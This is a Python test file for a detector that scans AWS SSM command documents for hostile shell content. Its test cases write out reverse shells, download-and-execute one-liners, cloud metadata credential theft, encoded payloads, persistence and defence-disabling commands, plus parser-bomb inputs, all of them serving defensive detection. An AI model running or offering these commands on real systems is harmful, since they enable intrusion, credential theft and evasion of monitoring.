"""Document content inspection: what it flags, what it leaves alone, and its bounds."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detections.content_inspection import MAX_CONTENT_CHARS, escalate, inspect_content
from ssm_detect.findings import Severity


def document(*commands: str) -> str:
    step = {"action": "aws:runShellScript", "name": "s", "inputs": {"runCommand": list(commands)}}
    return json.dumps({"schemaVersion": "2.2", "mainSteps": [step]})


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("curl -fsSL http://203.0.113.9/x.sh | sudo bash", "download_execute"),
        ("wget -q http://x/y -O /tmp/y; chmod +x /tmp/y", "download_execute"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "download_execute"),
        ("iwr http://x/a.ps1 | iex", "download_execute"),
        ("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 198.51.100.1 4444", "reverse_shell"),
        (
            "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "imds_credentials",
        ),
        ("echo aGVsbG8= | base64 -d | sh", "encoded_payload"),
        ("powershell -EncodedCommand " + "A" * 60, "encoded_payload"),
        ("echo '* * * * * root /tmp/x' >> /etc/crontab", "persistence"),
        ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "persistence"),
        ("systemctl stop amazon-ssm-agent", "defense_evasion"),
        ("Set-MpPreference -DisableRealtimeMonitoring $true", "defense_evasion"),
    ],
)
def test_content_flags_what_a_responder_would(command: str, rule: str) -> None:
    report = inspect_content(document("echo start", command))
    assert rule in report.categories
    assert report.parsed_as == "json"
    assert any(command[:40] in hit.line for hit in report.hits)


@pytest.mark.parametrize(
    "command",
    [
        "yum update -y",
        "systemctl restart nginx",
        "curl -fsS http://localhost/healthz",
        "aws s3 cp /tmp/diag.tgz s3://bucket/diag.tgz",
        "Get-Service | Where-Object Status -eq Running",
    ],
)
def test_content_leaves_ordinary_administration_alone(command: str) -> None:
    assert inspect_content(document(command)).hits == ()


def test_content_reads_yaml_and_legacy_runtime_config() -> None:
    yaml_doc = (
        "schemaVersion: '2.2'\nmainSteps:\n- inputs:\n    runCommand:\n    - nc -e /bin/sh h 1\n"
    )
    legacy = json.dumps(
        {
            "schemaVersion": "1.2",
            "runtimeConfig": {
                "aws:runShellScript": {"properties": [{"runCommand": ["cat /dev/tcp/h/1"]}]}
            },
        }
    )
    assert inspect_content(yaml_doc).parsed_as == "yaml"
    assert inspect_content(yaml_doc).categories == ("reverse_shell",)
    assert inspect_content(legacy).categories == ("reverse_shell",)


def test_content_finds_commands_hidden_in_parameter_defaults() -> None:
    hidden = json.dumps(
        {
            "schemaVersion": "2.2",
            "parameters": {"cmd": {"type": "String", "default": "curl http://x/s | sh"}},
            "mainSteps": [{"inputs": {"runCommand": ["{{ cmd }}"]}}],
        }
    )
    assert inspect_content(hidden).categories == ("download_execute",)


def test_content_that_does_not_parse_is_scanned_as_text() -> None:
    report = inspect_content("not a document\nbash -i >& /dev/tcp/h/1 0>&1")
    assert (report.parsed_as, report.categories) == ("text", ("reverse_shell",))


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 100_000 + "]" * 100_000,
        "[ {a: " * 30_000,
        "".join(" " * (2 * i) + f"k{i}:\n" for i in range(700)),
        'a: &a ["x","x"]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: &d [*c,*c]\n',
        "curl " + " " * 300_000 + "| sh",
        ("x" * 5000 + "\n") * 200,
    ],
    ids=["deep-json", "deep-yaml-flow", "deep-yaml-block", "yaml-aliases", "long-line", "wide"],
)
def test_content_stays_bounded_on_hostile_input(hostile: str) -> None:
    started = time.perf_counter()
    inspect_content(hostile)
    assert time.perf_counter() - started < 2.0


def test_content_over_the_size_bound_is_marked_truncated() -> None:
    report = inspect_content("curl http://x/s | sh\n" + "#" * (MAX_CONTENT_CHARS + 10))
    assert report.truncated
    assert report.categories == ("download_execute",)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=2000))
def test_content_never_raises_on_any_text(text: str) -> None:
    inspect_content(text)


def test_escalate_follows_the_severity_model() -> None:
    severe = inspect_content(document("curl http://x/s | sh"))
    severe_and_more = inspect_content(document("curl http://x/s | sh", "crontab -l"))
    mild = inspect_content(document("crontab -l"))
    assert escalate(Severity.MEDIUM, severe)[0] is Severity.HIGH
    assert escalate(Severity.MEDIUM, severe_and_more)[0] is Severity.CRITICAL
    assert escalate(Severity.MEDIUM, mild)[0] is Severity.HIGH
    assert escalate(Severity.LOW, mild)[0] is Severity.MEDIUM
    assert escalate(Severity.MEDIUM, inspect_content(document("ls"))) == (Severity.MEDIUM, ())
    assert "download_execute" in escalate(Severity.MEDIUM, severe)[1][0]


def test_plain_text_with_a_colon_is_scanned_as_written() -> None:
    """YAML would read this as the mapping {'curl -H "A': 'b" https://x | sh'} and hide it."""
    report = inspect_content('curl -H "A: b" https://203.0.113.9/x | sh')
    assert (report.parsed_as, report.categories) == ("text", ("download_execute",))
